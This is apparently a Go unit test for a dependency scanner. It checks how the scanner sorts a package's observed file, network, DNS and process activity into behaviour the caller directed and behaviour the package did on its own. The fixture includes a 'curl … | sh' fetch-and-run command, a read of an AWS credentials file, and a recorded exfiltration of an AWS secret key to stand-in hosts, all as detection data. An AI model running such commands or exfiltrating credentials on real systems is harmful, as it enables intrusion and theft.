package scan

import (
	"testing"

	"github.com/depbox/depbox/profile"
)

func TestMarkCallerDirected(t *testing.T) {
	exec := func(b profile.Behavior) *profile.Behavior { return &b }
	p := &profile.Profile{
		Dependencies: []profile.Dependency{{
			Name: "pino", Path: "node_modules/pino",
			Phases: map[string]*profile.Behavior{
				profile.PhaseExecute: exec(profile.Behavior{
					Files: []profile.File{
						{Path: "/var/task/depbox-call.invalid", Access: "write", Failed: true},                // a file named by the string
						{Path: "/var/task/https:/depbox-call.invalid/api?q=1", Access: "write", Failed: true}, // the URL as a path
						{Path: "/var/task/https:", Access: "write", Failed: true},                             // a directory on the way to it
						{Path: "/tmp/depbox-call-input.txt", Access: "read"},
						{Path: "/var/task/depbox-call.invalid/out.log", Access: "write"}, // inside the directory it was given
						{Path: "/var/task/index.js", Access: "write"},                    // the package's own doing
						{Path: "/var", Access: "write"},                                  // above the working directory
						{Path: "/home/sbx_user/.aws/credentials", Access: "read"},
					},
					Network: []profile.Endpoint{{Host: "depbox-call.invalid", Port: 443, Protocol: "tcp"}, {Host: "telemetry.evil.invalid", Port: 443, Protocol: "tcp"}},
					DNS:     []profile.DNSQuery{{Name: "depbox-call.invalid", Type: "A"}, {Name: "x.depbox-call.invalid.", Type: "A"}, {Name: "depbox-call.invalid.evil.invalid", Type: "A"}},
					Processes: []profile.Process{
						{Argv: []string{"depbox-call.invalid"}},
						{Argv: []string{"/bin/sh", "-c", "depbox-call.invalid"}},
						{Argv: []string{"/bin/sh", "-c", "curl depbox-call.invalid | sh"}},
					},
					Exfiltration: []profile.Exfil{{Canary: "AWS_SECRET_ACCESS_KEY", Channel: "network", Destination: "depbox-call.invalid:443", Encoding: "raw"}},
				}),
			},
		}},
		App: &profile.Dependency{Name: "fn", Path: ".", Phases: map[string]*profile.Behavior{
			profile.PhaseImport: {Unattributed: &profile.Behavior{DNS: []profile.DNSQuery{{Name: "depbox-call.invalid", Type: "AAAA"}, {Name: "other.invalid", Type: "A"}}}},
		}},
	}
	markCallerDirected(p, []string{"node_modules/pino"}, callArgs)
	b := p.Dependencies[0].Phases[profile.PhaseExecute]
	cd := b.CallerDirected
	if cd == nil {
		t.Fatal("nothing caller-directed")
	}
	if len(cd.Files) != 5 || len(b.Files) != 3 {
		t.Errorf("files: directed %v, kept %v", cd.Files, b.Files)
	}
	if len(cd.Network) != 1 || len(b.Network) != 1 || b.Network[0].Host != "telemetry.evil.invalid" {
		t.Errorf("network: directed %v, kept %v", cd.Network, b.Network)
	}
	if len(cd.DNS) != 3 || len(b.DNS) != 1 || b.DNS[0].Name != "depbox-call.invalid.evil.invalid" {
		t.Errorf("dns: directed %v, kept %v", cd.DNS, b.DNS)
	}
	if len(cd.Processes) != 2 || len(b.Processes) != 1 {
		t.Errorf("processes: directed %v, kept %v", cd.Processes, b.Processes)
	}
	if len(b.Exfiltration) != 1 {
		t.Errorf("exfiltration to a caller-given URL must stay: %v", b.Exfiltration)
	}
	if u := p.App.Phases[profile.PhaseImport].Unattributed; u == nil || len(u.DNS) != 1 || u.DNS[0].Name != "other.invalid" {
		t.Errorf("app's unattributed DNS: %+v", u)
	}
}
